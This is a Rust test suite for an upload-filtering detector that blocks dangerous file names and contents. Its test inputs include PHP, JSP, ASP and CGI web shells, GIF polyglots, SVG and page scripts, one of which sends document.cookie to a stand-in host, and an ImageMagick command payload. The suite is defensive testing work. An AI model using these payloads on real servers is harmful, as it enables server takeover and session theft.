use crate::detectors::testing::{blocks_at, look, passes_at};
use crate::{Class, Place};

#[track_caller]
fn name(text: &str, wanted: &str) {
    blocks_at(Class::Upload, Place::FileName, text, wanted);
}

#[track_caller]
fn content(text: &str, wanted: &str) {
    blocks_at(Class::Upload, Place::FileContent, text, wanted);
}

#[test]
fn names() {
    name("a.php", "server-name");
    name("a.PhTmL", "server-name");
    name("C:\\x\\a.aspx", "server-name");
    name("a.php.jpg", "disguised-name");
    name("a.php\0.jpg", "disguised-name");
    name("a.asp;.jpg", "disguised-name");
    name("a.php.", "disguised-name");
    name("a.php%20", "disguised-name");
    name("a.jsp/", "disguised-name");
    name("a.php::$DATA", "disguised-name");
    name(".htaccess", "obeyed-name");
    name("x/Web.Config", "obeyed-name");
}

#[test]
fn scripts_of_the_gateway() {
    content("import os,cgi\nprint(os.popen(cgi.FieldStorage()[\"c\"].value).read())\n", "web-shell");
    content("#!/usr/bin/perl\nuse CGI;\nprint qx(@{[CGI->new->param('c')]});\n", "web-shell");
    passes_at(Class::Upload, Place::FileContent, "f", "#!/usr/bin/perl\nuse CGI;\nprint 'hello';\n");
}

#[test]
fn names_pass() {
    for text in [
        "photo.jpg",
        "report.2024.pdf",
        "archive.tar.gz",
        "index.php.zip",
        "php-manual.pdf",
        "my.aspect.of.things.png",
        "setup.exe",
        "notes.txt",
        "a(1).docx",
        "script.pl",
    ] {
        passes_at(Class::Upload, Place::FileName, "file", text);
    }
}

#[test]
fn contents() {
    content("<?php @eval($_POST['x']); ?>", "web-shell");
    content("<?=`$_GET[0]`?>", "web-shell");
    content("GIF89a\n<?php system($_REQUEST['c']);", "web-shell polyglot");
    content(
        "\u{89}<%@ page import=\"java.io.*\"%><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "web-shell",
    );
    content("<%eval request(\"x\")%>", "web-shell");
    content("<script language='php'>system($_GET['x']);</script>", "web-shell");
    content("GIF89a<?php phpinfo();", "polyglot");
    content("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "svg-script");
    content("<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>", "svg-script");
    content("push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://a.example/x|y)'", "image-command");
    content("AddType application/x-httpd-php .jpg", "obeyed-content");
}

#[test]
fn pages_and_noise() {
    content("<!doctype html><p>x</p><script>fetch('//a.example/?'+document.cookie)</script>", "page-script");
    content("<html><body onload=alert(document.domain)>", "page-script");
    // However much stands before the drawing's element, or before the script in it.
    let drawing = |pad: usize| {
        format!(
            "<?xml version=\"1.0\"?><!-- {} --><svg>{}<script>x()</script></svg>",
            "a ".repeat(pad),
            "<g/>".repeat(pad)
        )
    };
    content(&drawing(1), "svg-script");
    content(&drawing(4_000), "svg-script");
    for text in [
        "<!doctype html><title>Reference manual</title><script src=\"a.js\"></script><script>var searchbox = new SearchBox('x');</script>",
        "id;text;author;date;approved;comment\n1;<script>alert(1)</script>;ann;2026-01-02;no;spam, removed by a moderator of the board\n",
        "<html><title>Reference manual of the library</title><svg><g/></svg><p>Contents</p><script>init();</script></html>",
    ] {
        passes_at(Class::Upload, Place::FileContent, "file", text);
    }
    // Every piece of code counts, not only the first one.
    content("<?php echo 1; ?>\n<p>x</p>\n<?php system($_GET['c']); ?>", "web-shell");
    // The two signs are chance in noise.
    let mut state = 0x1234_5678_9ABC_DEF1u64;
    let noise: Vec<u8> = (0..1 << 20)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        })
        .collect();
    for mark in [&b"<?="[..], b"<%", b"<? "] {
        let file = [&b"GIF89a"[..], &noise[..5_000], mark, &noise[5_000..]].concat();
        assert!(!look(Class::Upload, Place::FileContent, "file", &file).1, "{}", mark.escape_ascii());
    }
    assert!(!look(Class::Upload, Place::FileContent, "file", &noise).1);
    let shell = [&b"GIF89a"[..], &noise[..60_000], b"<?=`$_GET[0]`?>", &noise[..3_000]].concat();
    assert!(look(Class::Upload, Place::FileContent, "file", &shell).1);
}

#[test]
fn contents_pass() {
    for text in [
        "GIF89a\u{1}\u{2}<%\u{1}\u{2}",
        "name,price\n\"<b>\",5\n",
        "How to write <?php echo 1; ?> in a template.",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>",
        "%PDF-1.4\n1 0 obj << /Type /Catalog >>",
    ] {
        passes_at(Class::Upload, Place::FileContent, "file", text);
    }
}

/// A file that servers run by its name passes only if all of it does nothing that matters.
#[test]
fn sources_that_servers_may_run() {
    let blocks = |name: &str, contents: &str| {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\n{contents}\r\n--b--\r\n"
        );
        let detectors = crate::Detectors::new();
        let mut analysis = crate::Analysis::new();
        analysis.request_body(&detectors, b"multipart/form-data; boundary=b", body.as_bytes());
        analysis.worst(&detectors, crate::Level::Balanced).is_some_and(|s| s.blocks(crate::Level::Balanced))
    };
    let class = "<?php\nnamespace App;\n\n/** A page of the application, with a title. */\nclass Page\n{\n    function title() { return $this->title; }\n";
    assert!(!blocks("Page.php", &format!("{class}}}\n")));
    // What a body does it does when something calls it.
    assert!(!blocks("Page.php", &format!("{class}    function a($f) {{ return $f(1); }}\n}}\n")));
    for rest in [
        "}\nsystem($_GET['c']);\n",
        "}\n$f('id');\n",
        "    function a($f) { $f($_GET['c']); }\n}\n",
        "    function a() { system('id'); }\n}\n(new Page)->a();\n",
        "}\ninclude $_GET['p'];\n",
        "}\necho `id`;\n",
    ] {
        assert!(blocks("Page.php", &format!("{class}{rest}")), "{rest}");
    }
    for contents in [
        "x",
        "<?php echo 1;",
        "",
        "GIF89a",
        "no code of PHP\nin several lines\nof text that is long\nenough to be a file of some kind\nor other, it seems.\n",
    ] {
        assert!(blocks("Page.php", contents), "{contents}");
    }
    for name in ["Page.php.jpg\0.php", "Page.phar.php.", "Page.php%00.jpg", ".htaccess"] {
        assert!(blocks(name, &format!("{class}}}\n")), "{name}");
    }
}
